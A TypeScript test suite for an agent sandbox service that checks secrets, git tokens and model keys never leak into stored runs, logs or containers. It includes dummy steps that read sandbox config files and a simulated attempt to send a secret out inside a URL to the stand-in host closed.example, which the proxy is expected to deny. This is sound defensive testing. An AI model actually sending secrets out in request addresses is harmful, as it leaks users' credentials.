import { describe, expect, setDefaultTimeout, test } from 'bun:test';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { requestThroughProxy } from '../../src/sandbox/dummy-door.ts';
import type { DummyStepInput } from '../../src/sandbox/dummy-schema.ts';
import { runGit, temporaryDirectory } from '../support/git.ts';
import { gitServer } from '../support/gitserver.ts';
import { type TestService, testService } from '../support/service.ts';

setDefaultTimeout(30_000);

const modelKey = 'sk-real-model-key-0123456789abcdef';
const secretValue = 'real"secret\\value/with+signs 0123456789';
const gitToken = 'real-git-token-0123456789';

/** Every file below a directory, as bytes in Latin-1, so that any text in it is found. */
async function everything(directory: string): Promise<Map<string, string>> {
  const found = new Map<string, string>();
  for (const entry of await readdir(directory, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const file = path.join(entry.parentPath, entry.name);
    found.set(file, (await readFile(file)).toString('latin1'));
  }
  return found;
}

const forms = (value: string) => [value, JSON.stringify(value).slice(1, -1), encodeURIComponent(value)];

/** The places that hold one of the values in plain text. */
async function leaks(service: TestService, values: readonly string[]): Promise<string[]> {
  const { config, world } = service;
  const places = await everything(config.dataDir);
  for (const runId of world.runs.keys()) {
    for (const [file, text] of await everything(path.dirname(world.workspace(runId)))) places.set(file, text);
  }
  places.set('log', service.log());
  world.started.forEach(({ command, environment }, n) => {
    places.set(`container ${n}`, JSON.stringify([command, environment]) + Object.values(environment).join('\n'));
  });
  const wanted = values.flatMap(forms);
  return [...places].flatMap(([place, text]) => (wanted.some((value) => text.includes(value)) ? [place] : []));
}

async function withPrivateRepository() {
  const root = await temporaryDirectory();
  await runGit(root.path, 'init', '--quiet', '--bare', '--initial-branch=main', 'private.git');
  await runGit(root.path, 'clone', '--quiet', 'private.git', 'work');
  const work = path.join(root.path, 'work');
  await runGit(work, 'commit', '--quiet', '--allow-empty', '-m', 'Begin');
  await runGit(work, 'push', '--quiet', 'origin', 'HEAD:main');
  const server = gitServer({ root: root.path, token: gitToken });
  return {
    url: `${server.origin}/private.git`,
    origin: new URL(server.origin).host,
    async [Symbol.asyncDispose]() {
      await server[Symbol.asyncDispose]();
      await root[Symbol.asyncDispose]();
    },
  };
}

describe.concurrent('no real value of a secret, a git token or the model key', () => {
  test('is in anything that is kept, or in anything that the sandbox has', async () => {
    await using repository = await withPrivateRepository();
    await using service = await testService({
      modelKey,
      env: { SLIPWAY_EGRESS_ALLOW_PRIVATE: repository.origin },
    });
    const secret = await service.secret('API_TOKEN', secretValue);
    const repositoryId = await service.connect(repository.url, gitToken);
    const steps: DummyStepInput[] = [
      { do: 'environment', name: 'API_TOKEN' },
      { do: 'read', path: '/state/turn/gitconfig' },
      { do: 'read', path: '/state/dummy/system.txt' },
      { do: 'model', prompt: 'x' },
      { do: 'gate', name: 'g' },
    ];
    const runId = await service.start(steps, {
      repositoryIds: [repositoryId, service.repositoryId],
      workspaceSecretIds: [secret],
    });
    await service.world.reached('g');
    expect(service.model.requests[0]?.headers.authorization).toBe(`Bearer ${modelKey}`);
    expect(service.world.started[0]?.environment.API_TOKEN).toMatch(/./);
    const values = [secretValue, gitToken, modelKey];
    expect(await leaks(service, values)).toEqual([]);
    service.world.gate('g').open();
    const run = await service.finished(runId);
    expect(run.status).toBe('succeeded');
    const [shown] = run.events.filter(({ type }) => type === 'tool_result');
    expect(shown?.data?.output).toBe(service.world.started[0]?.environment.API_TOKEN);
    await service.halt();
    expect(await leaks(service, values)).toEqual([]);
    await service.resume();
  });

  const values = { 'the secret': secretValue, 'the model key': modelKey, 'the git token': gitToken };
  for (const [name, value] of Object.entries(values)) {
    test(`is kept, though an agent has learnt it: ${name}`, async () => {
      await using repository = await withPrivateRepository();
      await using service = await testService({ modelKey, env: { SLIPWAY_EGRESS_ALLOW_PRIVATE: repository.origin } });
      const secret = await service.secret('API_TOKEN', secretValue);
      const configuration = {
        repositoryIds: [service.repositoryId, await service.connect(repository.url, gitToken)],
        workspaceSecretIds: [secret],
      };
      const runId = await service.start([{ do: 'gate', name: 'go' }, { do: 'wait' }], configuration);
      await service.world.reached('go');
      // A script would come in by the message, which is kept as its writer sent it: so the program talks by itself.
      const process = service.world.runs.get(runId)?.containers.get(1)?.process;
      const says = (line: object) => process?.print(JSON.stringify(line));
      await Bun.write(`${service.world.workspace(runId)}/demo/learnt.txt`, `it is ${value}\n`);
      says({ type: 'tool', command: `echo ${value}`, output: `it is ${value}`, exitCode: 0 });
      says({ type: 'file', path: `${value}.txt` });
      says({ type: 'message', text: `The value is ${value}.` });
      process?.print(`plain ${value}`);
      process?.end({ code: 0, outOfMemory: false });
      const run = await service.finished(runId);
      expect(run.status).toBe('succeeded');
      expect(run.resultSummary).toStartWith('The value is ');
      const raw = await service.call('GET', `/runs/${runId}/turns/1/raw`);
      const stored = [JSON.stringify(run), raw.body as string];
      for (const form of forms(value)) for (const text of stored) expect(text).not.toContain(form);
      await service.service().runner.idle();
      const places = (await leaks(service, [value])).filter((place) => !place.endsWith('learnt.txt'));
      expect(places).toEqual([]);
    });
  }

  test('is in the message of a failure', async () => {
    await using service = await testService({ modelKey });
    const secret = await service.secret('API_TOKEN', secretValue);
    const runId = await service.start([{ do: 'wait' }], { workspaceSecretIds: [secret] });
    await service.event(runId, 'sandbox_ready');
    const process = service.world.runs.get(runId)?.containers.get(1)?.process;
    process?.print(JSON.stringify({ type: 'error', message: `refused: ${secretValue}` }));
    process?.end({ code: 1, outOfMemory: false });
    const run = await service.finished(runId);
    expect(run.failureMessage).toStartWith('refused: ');
    expect(await leaks(service, [secretValue])).toEqual([]);
  });

  test('is in the ledger when the agent writes it into an address', async () => {
    await using service = await testService({ modelKey });
    const secret = await service.secret('API_TOKEN', secretValue);
    const runId = await service.start([{ do: 'gate', name: 'go' }, { do: 'wait' }], { workspaceSecretIds: [secret] });
    await service.world.reached('go');
    const doors = path.join(service.config.dataDir, 'doors');
    const [door = ''] = await readdir(doors);
    const gone = new AbortController();
    const address = `http://closed.example:9/${encodeURIComponent(secretValue)}`;
    const asking = requestThroughProxy(path.join(doors, door), address, {}, gone.signal).catch(() => {});
    await service.event(runId, 'egress_denied');
    gone.abort();
    await asking;
    await service.cancel(runId);
    await service.finished(runId);
    const { body } = await service.call('GET', `/runs/${runId}/egress`);
    expect(body.requests).toMatchObject([{ host: 'closed.example', port: 9, decision: 'denied' }]);
    expect(await leaks(service, [secretValue])).toEqual([]);
  });
});
